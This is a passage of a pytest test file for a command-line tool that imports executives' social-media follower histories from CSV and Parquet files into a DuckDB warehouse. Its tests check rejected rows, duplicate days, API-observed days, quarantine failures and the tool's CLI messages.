    # pandas writes a count column with gaps as floats, a gap as NaN: the whole row was
    # rejected ("'nan' is not a whole number >= 0"), though n/a or an empty cell load.
    path = tmp_path / "history.parquet"
    pq.write_table(
        pa.table(
            {
                "executive_id": ["joe", "joe"],
                "platform": ["bluesky", "bluesky"],
                "date": [date(2026, 2, 1), date(2026, 2, 2)],
                "followers": [120.0, float("nan")],
                "following": [float("nan"), 3.0],
            }
        ),
        path,
    )

    outcome = import_history(con, path, ROSTER, tmp_path / "q", today=TODAY)

    # A NaN follower count is still no count: that row alone is rejected.
    assert [(e.row, e.column) for e in outcome.errors] == [(2, "followers")]
    assert [row[:5] for row in imported(con)] == [
        ("bluesky", "joe.bsky.social", date(2026, 2, 1), 120, None)
    ]


API_DAY_AND_DAY_TWICE = """account_handle,platform,date,followers
JoeKaeser,x,2026-01-01,64000
joekaeser,x,2026-01-02,111
JoeKaeser,x,2026-01-03,222
JoeKaeser,x,2026-01-03,333
satyanadella,linkedin,2026-01-03,11000000
nobody,x,2026-01-03,1
"""


def _api_observation(con: duckdb.DuckDBPyConnection, day: str, followers: int) -> None:
    con.execute(
        """
        insert into raw.platform_metrics values ('x', ?, 'JoeKaeser', '1', 'ok',
            ?, 1, 1, ?, 'api', null, now(), false)
        """,
        [day, followers, f"{day} 06:00:00+00"],
    )


def test_loaded_rows_the_marts_will_not_count_are_said(
    con: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    # "6 rows loaded, 2 rejected": of the 6, the API's day and the day given twice never
    # reached the marts, and nothing said so.
    _api_observation(con, "2026-01-02", 250_474_383)
    _api_observation(con, "2026-02-01", 1)  # a day the file does not give
    path = write_csv(tmp_path, API_DAY_AND_DAY_TWICE)

    outcome = import_history(con, path, ROSTER, tmp_path / "q", today=TODAY)

    assert (outcome.rows_loaded, outcome.rows_rejected) == (5, 1)
    assert (outcome.rows_repeating_a_day, outcome.rows_for_api_days) == (1, 1)
    assert outcome.rows_not_counted() == (
        "1 row repeats an account's day the file gives already (the row with the larger "
        "counts is kept) and 1 row is for a day the platform's API already observed (the "
        "API's counts are kept): the marts count 3 of the rows loaded"
    )
    # What is kept is unchanged: every valid row, the API's row beside them.
    assert len(imported(con)) == 5


def test_the_fast_path_counts_days_given_twice_across_spellings_of_a_handle(
    con: duckdb.DuckDBPyConnection, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # A clean file is loaded by the fast path, whose keys are the handles as written: the
    # day 2026-01-03 given by JoeKaeser and by joekaeser on X is one account's day twice.
    _api_observation(con, "2026-01-02", 250_474_383)
    path = write_csv(
        tmp_path,
        "account_handle,platform,date,followers\n"
        "JoeKaeser,x,2026-01-01,64000\n"
        "joekaeser,x,2026-01-02,111\n"
        "JoeKaeser,x,2026-01-03,222\n"
        "joekaeser,X,2026-01-03,333\n"
        "satyanadella,linkedin,2026-01-03,11000000\n",
    )

    summaries: list[bool] = []
    summary_sql = follower_imports._summary_sql

    def recorded(today: date, *, keyed: bool = False) -> str:
        summaries.append(keyed)
        return summary_sql(today, keyed=keyed)

    monkeypatch.setattr(follower_imports, "_summary_sql", recorded)
    outcome = import_history(con, path, ROSTER, tmp_path / "q", today=TODAY)

    # Summarised from the fast path's keys, not from a pass over the rows.
    assert summaries == [True]

    assert (outcome.rows_loaded, outcome.rows_rejected) == (5, 0)
    assert (outcome.rows_repeating_a_day, outcome.rows_for_api_days) == (1, 1)
    assert (outcome.first_date, outcome.last_date) == (date(2026, 1, 1), date(2026, 1, 3))
    assert outcome.platforms == ["linkedin", "x"]


SPELLINGS_GAPS_AND_API_DAYS = (
    "account_handle,platform,date,followers\n"
    + "".join(
        f"{'JoeKaeser' if number % 3 else ' joekaeser '},{'X' if number % 4 else 'x'},"
        f"{date(2025, 1, 1) + timedelta(days=number * 2)},{1000 + number}\n"
        for number in range(40)
    )
    + (
        "joekaeser,x,2025-01-05,7\n"
        "satyanadella,linkedin,2024-12-31,11000000\n"
        "SatyaNadella,LinkedIn,2024-12-31,11000001\n"
        "satyanadella,linkedin,2025-03-01,11000002\n"
    )
)


def test_the_fast_path_and_the_checking_path_summarise_a_file_alike(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The fast path summarises from its keys as written (days as bits from the file's first
    # day, merged across spellings); the checking path from the rows loaded (bits from
    # 2000-01-01). One file, each path in a warehouse of its own with the same API days
    # (on days the file gives, on a day between two it gives, and outside it).
    outcomes = {}
    summary_sql = follower_imports._summary_sql
    for path_taken in ("fast", "checking"):
        (tmp_path / path_taken).mkdir()
        con = duckdb.connect(str(tmp_path / f"{path_taken}.duckdb"))
        ensure_schema(con)
        for day, followers in (("2025-01-03", 5), ("2025-01-04", 6), ("2025-03-01", 7)):
            _api_observation(con, day, followers)
        con.execute(
            "insert into raw.platform_metrics values ('linkedin', '2025-03-01', "
            "'satyanadella', '2', 'ok', 1, 1, 1, '2025-03-01 06:00:00+00', 'api', null, "
            "now(), false)"
        )
        summaries: list[bool] = []

        def recorded(today: date, *, keyed: bool = False, seen: list[bool] = summaries) -> str:
            seen.append(keyed)
            return summary_sql(today, keyed=keyed)

        with monkeypatch.context() as patched:
            patched.setattr(follower_imports, "_summary_sql", recorded)
            if path_taken == "checking":
                patched.setattr(follower_imports, "_bulk_insert", lambda *args: None)
            path = write_csv(tmp_path / path_taken, SPELLINGS_GAPS_AND_API_DAYS)
            outcome = import_history(con, path, ROSTER, tmp_path / path_taken / "q", today=TODAY)
        assert summaries == [path_taken == "fast"]
        outcomes[path_taken] = (
            outcome.rows_loaded,
            outcome.rows_rejected,
            outcome.first_date,
            outcome.last_date,
            outcome.platforms,
            outcome.rows_repeating_a_day,
            outcome.rows_for_api_days,
            imported(con),
        )
        con.close()

    assert outcomes["fast"] == outcomes["checking"]
    # Two days given twice (2025-01-05 by joekaeser, 2024-12-31 by both spellings of
    # satyanadella); two API days the file gives (2025-01-03, and 2025-03-01 on LinkedIn).
    assert outcomes["fast"][:7] == (
        44,
        0,
        date(2024, 12, 31),
        date(2025, 3, 20),
        ["linkedin", "x"],
        2,
        2,
    )


def test_a_file_without_repeated_or_api_days_says_nothing_more(
    con: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    _api_observation(con, "2026-01-04", 1)
    path = write_csv(tmp_path, "account_handle,platform,date,followers\nJoeKaeser,x,2026-01-03,5\n")

    outcome = import_history(con, path, ROSTER, tmp_path / "q", today=TODAY)

    assert (outcome.rows_repeating_a_day, outcome.rows_for_api_days) == (0, 0)
    assert outcome.rows_not_counted() is None


@pytest.mark.parametrize("suffix", [".csv", ".parquet"])
def test_an_unwritable_quarantine_commits_nothing_and_the_next_file_is_imported(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    suffix: str,
) -> None:
    # The rows were committed, then the quarantine failed: "error: ...: Not a directory",
    # no rejected rows kept, and the files after it neither imported nor named.
    roster = tmp_path / "roster.csv"
    roster.write_text(
        "executive_id,full_name,title,company,country,sector,is_synthetic,x\n"
        "joe,J,Chair,Siemens Energy,DE,Industrials,false,JoeKaeser\n",
        encoding="utf-8",
    )
    blocker = tmp_path / "plain_file"
    blocker.write_text("not a folder\n")
    monkeypatch.setenv("SLW_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.setenv("SLW_ROSTER_PATH", str(roster))
    monkeypatch.setenv("SLW_QUARANTINE_DIR", str(blocker / "q"))
    bad = write_csv(
        tmp_path, "executive_id,platform,date,followers\njoe,x,2026-01-01,7\njoe,x,bad,1\n"
    )
    if suffix == ".parquet":
        table = pa.table(
            {
                "executive_id": ["joe", "joe"],
                "platform": ["x", "x"],
                "date": ["2026-01-01", "bad"],
                "followers": [7, 1],
            }
        )
        bad = tmp_path / "history.parquet"
        pq.write_table(table, bad)
    good = write_csv(
        tmp_path, "executive_id,platform,date,followers\njoe,x,2026-01-02,8\n", "good.csv"
    )

    assert cli_main(["import-history", str(bad), str(good)]) == 1

    out = capsys.readouterr()
    assert f"{bad}: not imported, none of its rows loaded" in out.err
    assert "Not a directory" in out.err
    assert f"{good}: 1 row loaded, 0 rejected" in out.out
    warehouse = tmp_path / "data" / "warehouse" / "warehouse.duckdb"
    with duckdb.connect(str(warehouse), read_only=True) as check:
        assert check.execute("select file_name from raw.history_imports").fetchall() == [
            (str(good),)
        ]
        assert check.execute("select followers from raw.imported_metrics").fetchall() == [(8,)]


def test_a_rolled_back_commit_removes_the_rejected_rows_report(
    con: duckdb.DuckDBPyConnection, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The report is written before the commit: a commit that fails takes it away too.
    import social_leadership.follower_imports as follower_imports

    @contextlib.contextmanager
    def failing_commit(connection: duckdb.DuckDBPyConnection) -> Iterator[None]:
        connection.execute("begin")
        yield
        connection.execute("rollback")
        raise duckdb.IOException("commit failed (injected)")

    monkeypatch.setattr(follower_imports, "transaction", failing_commit)
    path = write_csv(tmp_path, GOOD_AND_BAD)
    quarantine = tmp_path / "quarantine"

    with pytest.raises(duckdb.IOException, match="injected"):
        import_history(con, path, ROSTER, quarantine, today=TODAY)

    assert imported(con) == []
    assert not any(quarantine.rglob("report.json"))


def test_a_report_the_disk_could_not_take_leaves_no_half_written_folder(
    con: duckdb.DuckDBPyConnection, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The rejected rows written, then the disk full for the report: the import rolled back,
    # the folder stayed with its rows and no report, one more at each retry.
    from social_leadership.intake import QuarantineFolder

    def disk_full(self: QuarantineFolder, report: dict) -> Path:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(QuarantineFolder, "write_report", disk_full)
    path = write_csv(tmp_path, GOOD_AND_BAD)
    quarantine = tmp_path / "quarantine"

    with pytest.raises(OSError, match="No space left"):
        import_history(con, path, ROSTER, quarantine, today=TODAY)

    assert imported(con) == []
    assert list((quarantine / "history").iterdir()) == []


def _cli_env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A data folder and a roster of joe's X account, for ``slw import-history``; the
    warehouse's path."""
    roster = tmp_path / "roster.csv"
    roster.write_text(
        "executive_id,full_name,title,company,country,sector,is_synthetic,x\n"
        "joe,J,Chair,Siemens Energy,DE,Industrials,false,JoeKaeser\n",
        encoding="utf-8",
    )
    monkeypatch.setenv("SLW_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.setenv("SLW_ROSTER_PATH", str(roster))
    return tmp_path / "data" / "warehouse" / "warehouse.duckdb"


def test_cli_says_which_loaded_rows_the_marts_will_not_count(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    warehouse = _cli_env(tmp_path, monkeypatch)
    warehouse.parent.mkdir(parents=True)
    with duckdb.connect(str(warehouse)) as setup:
        ensure_schema(setup)
        _api_observation(setup, "2026-01-02", 250_474_383)
    path = write_csv(
        tmp_path,
        "account_handle,platform,date,followers\n"
        "JoeKaeser,x,2026-01-01,1\nJoeKaeser,x,2026-01-02,111\n"
        "JoeKaeser,x,2026-01-03,222\nJoeKaeser,x,2026-01-03,333\n",
    )

    assert cli_main(["import-history", str(path)]) == 0

    lines = capsys.readouterr().out.splitlines()
    assert lines == [
        f"{path}: 4 rows loaded, 0 rejected",
        "  1 row repeats an account's day the file gives already (the row with the larger "
        "counts is kept) and 1 row is for a day the platform's API already observed (the "
        "API's counts are kept): the marts count 2 of the rows loaded",
    ]


def test_cli_imports_a_file_given_twice_once_and_says_so(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    warehouse = _cli_env(tmp_path, monkeypatch)
    path = write_csv(tmp_path, "executive_id,platform,date,followers\njoe,x,2026-01-01,7\n")
    (tmp_path / "sub").mkdir()
    again = tmp_path / "sub" / ".." / path.name

    assert cli_main(["import-history", str(path), str(again), str(path)]) == 0

    # After the line saying the warehouse is new.
    assert capsys.readouterr().out.splitlines()[1:] == [
        f"{path}: 1 row loaded, 0 rejected",
        f"{again}: given again (as {path}), imported once",
        f"{path}: given again, imported once",
    ]
    with duckdb.connect(str(warehouse), read_only=True) as check:
        assert check.execute("select count(*) from raw.history_imports").fetchone() == (1,)


def test_cli_says_when_an_import_makes_a_new_warehouse(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    # A mistyped SLW_DATA_DIR made a new warehouse unsaid; before the first run it is meant.
    warehouse = _cli_env(tmp_path, monkeypatch)
    path = write_csv(tmp_path, "executive_id,platform,date,followers\njoe,x,2026-01-01,7\n")

    assert cli_main(["import-history", str(path)]) == 0
    first = capsys.readouterr().out.splitlines()
    assert cli_main(["import-history", str(path)]) == 0
    second = capsys.readouterr().out.splitlines()

    assert first[0] == (
        f"no warehouse at {warehouse} yet: this import makes a new one "
        "(a wrong SLW_DATA_DIR? slw settings shows the SLW_* paths in force)"
    )
    assert first[1:] == second == [f"{path}: 1 row loaded, 0 rejected"]
